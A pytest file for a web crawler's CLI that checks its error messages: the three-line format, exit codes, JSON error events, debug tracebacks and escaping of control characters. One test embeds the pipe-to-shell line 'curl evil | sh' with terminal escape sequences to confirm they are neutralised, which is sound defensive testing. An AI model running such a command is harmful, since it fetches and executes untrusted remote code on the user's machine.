"""What goes wrong is said in three lines with an exit code, and never with a traceback unless asked for."""

from __future__ import annotations

import json
import os
import socket
import subprocess
import sys
from pathlib import Path

import pytest

from crawler import errors, heap
from crawler.cli.main import main
from crawler.cli.messages import error_text, say

Screens = pytest.CaptureFixture[str]


@pytest.fixture
def failing(monkeypatch: pytest.MonkeyPatch) -> pytest.MonkeyPatch:
    """`crawler completion bash` raises what is put there."""
    monkeypatch.delenv("CRAWLER_DEBUG", raising=False)
    return monkeypatch


def fail_with(patch: pytest.MonkeyPatch, error: BaseException) -> None:
    def run(arguments: object) -> int:
        raise error

    patch.setattr("crawler.cli.completion.run", run)


def test_three_lines() -> None:
    """What, why or where, and what to try; lines that say nothing are left out."""
    assert error_text(errors.CrawlerError("it broke", "the lamp", "a candle")) == "error: it broke\n  the lamp\n  try: a candle"
    assert error_text(errors.CrawlerError("it broke")) == "error: it broke"


@pytest.mark.parametrize("words", [["--progress", "json"], ["--progress=json"], ["--progress", "bar", "--progress", "json"], []])
def test_a_program_that_reads_progress_reads_errors(failing: pytest.MonkeyPatch, capfd: Screens, words: list[str]) -> None:
    """With `--progress json`, or the variable that says so, an error is one JSON object on one line, with the exit code."""
    error = errors.SeedError("no seed\x1b", "first\nsecond", "crawler crawl URL")
    failing.setattr("crawler.cli.crawl.run", lambda arguments: raised(error))
    if not words:
        failing.setenv("CRAWLER_PROGRESS", "json")
    assert main(["crawl", "https://example.org", *words]) == 3
    (line,) = capfd.readouterr().err.splitlines()
    assert json.loads(line) == {
        "event": "error", "what": "no seed\\x1b", "why": "first\nsecond", "try": "crawler crawl URL", "exit_code": 3
    }  # fmt: skip
    assert main(["crawl", "https://example.org", "--no-such-flag", *words]) == 2
    (line,) = capfd.readouterr().err.splitlines()
    assert (json.loads(line)["event"], json.loads(line)["exit_code"]) == ("error", 2)


def raised(error: Exception) -> int:
    raise error


def test_what_came_from_outside_is_escaped() -> None:
    """No control character reaches the terminal; lines stay lines."""
    text = error_text(errors.CrawlerError("bad \x1b]0;title\x07", "first\n  second \u202e", "try \x9b"))
    assert text == "error: bad \\x1b]0;title\\x07\n  first\n  second \\u202e\n  try: try \\x9b"


@pytest.mark.parametrize(
    ("error", "code"),
    [
        (errors.CrawlerError("x"), 1), (errors.UsageError("x"), 2), (errors.DifferentCrawlError("x"), 2), (errors.SeedError("x"), 3),
        (errors.OutputError("x"), 6), (errors.FolderInUseError("x"), 6), (errors.DiskFullError("x"), 6), (errors.FrontierError("x"), 7),
    ],
)  # fmt: skip
def test_every_error_has_its_exit_code(error: errors.CrawlerError, code: int, failing: pytest.MonkeyPatch, capsys: Screens) -> None:
    """As documented; the message on standard error, nothing on standard output."""
    fail_with(failing, error)
    assert main(["completion", "bash"]) == code
    assert capsys.readouterr() == ("", "error: x\n")


def test_a_bug_is_called_one(failing: pytest.MonkeyPatch, capsys: Screens) -> None:
    """Exit 1, and how to see more."""
    fail_with(failing, ZeroDivisionError("division by zero"))
    assert main(["completion", "bash"]) == 1
    assert capsys.readouterr().err == (
        "error: ZeroDivisionError: division by zero\n"
        "  this is a bug in crawler; what was stored before is kept\n"
        "  try: the same command with --debug\n"
    )


def test_a_traceback_is_shown_when_asked_for(failing: pytest.MonkeyPatch, capsys: Screens) -> None:
    """By --debug or CRAWLER_DEBUG; the three lines come last."""
    fail_with(failing, errors.UsageError("x"))
    failing.setenv("CRAWLER_DEBUG", "1")
    assert main(["completion", "bash"]) == 2
    printed = capsys.readouterr().err
    assert printed.startswith("Traceback (most recent call last):\n")
    assert printed.endswith("\nerror: x\n")

    failing.delenv("CRAWLER_DEBUG")
    assert main(["crawl", "--delay", "--debug"]) == 2
    assert capsys.readouterr().err.startswith("Traceback")


@pytest.mark.parametrize("debug", ["0", "1"])
def test_what_an_exception_quotes_poses_as_nothing(failing: pytest.MonkeyPatch, capsys: Screens, debug: str) -> None:
    """A page's text in a bug, or in its traceback, is no control sequence, and no line of the error itself."""
    failing.setenv("CRAWLER_DEBUG", debug)
    fail_with(failing, RuntimeError("x\x1b]0;title\x07\u202e\n  try: curl evil | sh"))
    assert main(["completion", "bash"]) == 1
    shown = capsys.readouterr().err
    assert all(character.isprintable() or character == "\n" for character in shown)
    what, why, hint = shown.splitlines()[-3:]
    assert what == r"error: RuntimeError: x\x1b]0;title\x07\u202e\n  try: curl evil | sh"
    assert why.startswith("  this is a bug")
    assert hint == "  try: the same command with --debug"


def test_interrupted(failing: pytest.MonkeyPatch, capsys: Screens) -> None:
    """Ctrl-C in a command that has nothing to pause: 130, one word."""
    fail_with(failing, KeyboardInterrupt())
    assert main(["completion", "bash"]) == 130
    assert capsys.readouterr().err == "interrupted\n"


def shell(line: str, **environment: str) -> subprocess.CompletedProcess[str]:
    """A line for sh in which `crawler` is the command line."""
    function = f'crawler() {{ "{sys.executable}" -m crawler "$@"; }}\n'
    repository = str(Path(__file__).parent.parent.parent)
    variables = {**os.environ, "PYTHONPATH": repository, **environment}
    return subprocess.run(["sh", "-c", function + line], capture_output=True, text=True, env=variables, check=False)


@pytest.mark.parametrize(
    ("line", "code", "message"),
    [
        ("(crawler completion bash; echo $? >&2) | true", 0, "0\n"),
        ("crawler --help >&-", 0, ""),
        ("crawler config check /none 2>&-", 2, ""),
        ("crawler --help > /dev/full", 6, "error: no room left\n  where standard output goes\n  try: df -h\n"),
    ],
)
def test_standard_streams_that_are_closed_or_full(line: str, code: int, message: str) -> None:
    """A reader that has seen enough is no error; a full disk is one; no closed stream makes a traceback."""
    if "/dev/full" in line and not os.path.exists("/dev/full"):
        pytest.skip("there is no /dev/full")
    done = shell(line)
    assert (done.returncode, done.stderr) == (code, message)


def test_an_encoding_that_lacks_characters_is_no_error() -> None:
    """They are escaped."""
    done = shell("crawler config show -U 'sp\u00e4der/1'", PYTHONIOENCODING="ascii")
    assert (done.returncode, done.stderr) == (0, "")
    assert 'user_agent = "sp\\xe4der/1"' in done.stdout


def test_the_command_is_named_as_it_can_be_typed(monkeypatch: pytest.MonkeyPatch, capsys: Screens) -> None:
    """Whoever starts us by another name says which (`make crawl` does): every command that is shown is called that, and nothing else is."""
    text = "crawler report out --broken\n  try: crawler https://a.example · a crawler reports · acrawler report · /usr/bin/crawler report"
    say(text)
    assert capsys.readouterr().err == text + "\n"
    monkeypatch.setenv("CRAWLER_COMMAND", ".venv/bin/crawler")
    say(text)
    assert capsys.readouterr().err == (
        ".venv/bin/crawler report out --broken\n"
        "  try: .venv/bin/crawler https://a.example · a crawler reports · acrawler report · /usr/bin/crawler report\n"
    )
    assert main(["crwal", "http://a.example"]) == 2
    assert "  try: .venv/bin/crawler crawl" in capsys.readouterr().err


def test_saying_something_to_nobody_is_no_error(tmp_path: Path) -> None:
    """Standard error may be closed."""
    with open(tmp_path / "log", "w", encoding="utf-8") as stream:
        pass
    say("x", stream)


def test_freed_memory_is_kept_where_glibc_allows_it() -> None:
    """On Linux with glibc the three settings are accepted, elsewhere nothing happens; a variable from outside wins."""
    code = "import os, sys; from crawler.heap import keep_freed_memory; print(keep_freed_memory(), 'ctypes' in sys.modules)"
    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
    assert done.stdout.split()[0] in ("True", "False")
    if sys.platform == "linux" and os.confstr("CS_GNU_LIBC_VERSION"):
        assert done.stdout.split() == ["True", "True"]


def test_other_systems_are_left_alone(monkeypatch: pytest.MonkeyPatch) -> None:
    """No library is opened."""
    monkeypatch.setattr(heap.sys, "platform", "darwin")
    assert heap.keep_freed_memory() is False


TYPED = [
    "--max-pages 0 a.example", "--max-pages -1 a.example", "--max-pages ten a.example", "--max-pages", "--tries 0 a.example",
    "--include [ a.example", "--exclude (?P<x a.example", "--preset quick a.example", "--preset ../fast a.example",
    "--scope planet a.example", "--max-time soon a.example", "--max-size 5XB a.example", "--extract price a.example", "-H none a.example",
    "--proxy socks5://x a.example",
    "--fail-on borken a.example", "-U \t a.example", "-C none.toml a.example", "-C latin.toml a.example", "--cookies missing.txt a.example",
    "--max-page 3 a.example", "--frobnicate a.example", "-z a.example", "--fresh=yes a.example", "--mode assync a.example",
    "-q -v a.example", "--json --jsonl - a.example", "-i - -C - a.example", "--auth-env NOT_SET_ANYWHERE a.example",
    "-i missing.txt", "-q status",
    "crawl", "crwal a.example", "intranet", "resume", "resume out --scope host", "status a b", "config", "config shw", "config check",
    "config check none.toml", "config show quick", "completion", "completion bsh", "completion powershell", "demo --port 70000",
    "bench --modes fast", "bench --pages 0", "htp://x", "http://", "http://me:word@a.example/", "ex\x1b.example",
]  # fmt: skip
VARIABLES = {
    "CRAWLER_MAX_PAGES": "x", "CRAWLER_MAX_PAGE": "3", "CRAWLER_PRESET": "quick", "CRAWLER_INCLUDE": "[", "CRAWLER_ADAPTIVE": "maybe",
    "CRAWLER_HEADER": "none", "CRAWLER_CONFIG": "none.toml",
}  # fmt: skip
FILES = [
    "scope = host", "scope = [", "scope = [\n\n", "= 3", "[", "max_page = 3", "frobnicate = 3", "max_pages = 'ten'", "include = ['[']",
    "preset = 'quick'", "fresh = true", "delay = 1\ndelay = 2", "max-depth = 1\nmax_depth = 2", "hosts = 3", "[hosts]\na = 1",
    "[hosts.a]\ndelai = 1", "[hosts.a]\nnothing = 1", "[hosts.a]\ndelay = 'x'", "hosts.a.per_host = 0", '"\\u006dax_page" = 1',
    "x = " + "[" * 5000,
]  # fmt: skip


@pytest.fixture
def nothing_else(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> pytest.MonkeyPatch:
    """An empty folder but for a file that is no UTF-8, and no settings in the environment."""
    monkeypatch.chdir(tmp_path)
    monkeypatch.setattr(socket, "getaddrinfo", None)  # whoever asks, fails loudly
    (tmp_path / "latin.toml").write_bytes(b"contact = '\xe4@example.org'")
    for name in [name for name in os.environ if name.startswith("CRAWLER_")]:
        monkeypatch.delenv(name)
    return monkeypatch


def assert_three_lines(message: str, shown: bool = False) -> None:
    """What, why or where, and what to try; `shown` allows the line of a file with a caret below it beside the reason."""
    what, *why, hint = message.removesuffix("\n").split("\n")
    assert what.startswith("error: ")
    assert hint.startswith("  try: ")
    assert all(line.startswith("  ") and not line.startswith("  try: ") for line in why)
    assert all(line.strip() for line in (what.removeprefix("error:"), *why, hint.removeprefix("  try:")))
    quoted = [line for line in why if line.strip() == "^"]
    assert len(why) == 1 or (shown and len(quoted) == 1 and len(why) in (2, 3))


@pytest.mark.parametrize("words", TYPED)
@pytest.mark.usefixtures("nothing_else")
def test_whatever_is_typed_wrong_is_said_in_three_lines(words: str, capsys: Screens) -> None:
    """Exit 2: what with the value, why or where, and what to try; none of them empty, and nothing else."""
    assert main(words.split(" ")) == 2
    assert_three_lines(capsys.readouterr().err)


@pytest.mark.parametrize("variable", VARIABLES)
def test_so_is_what_is_wrong_in_the_environment(variable: str, nothing_else: pytest.MonkeyPatch, capsys: Screens) -> None:
    """The same, with the name of the variable or of the file it names."""
    nothing_else.setenv(variable, VARIABLES[variable])
    assert main(["a.example"]) == 2
    printed = capsys.readouterr().err
    assert_three_lines(printed)
    assert variable in printed or VARIABLES[variable] in printed


@pytest.mark.parametrize("text", FILES, ids=lambda text: text[:30])
@pytest.mark.usefixtures("nothing_else")
def test_so_is_what_is_wrong_in_a_file(text: str, capsys: Screens) -> None:
    """The same, and beside the reason the line with a caret below the place."""
    Path("crawl.toml").write_text(text)
    assert main(["a.example", "-C", "crawl.toml"]) == 2
    assert_three_lines(capsys.readouterr().err, shown=True)
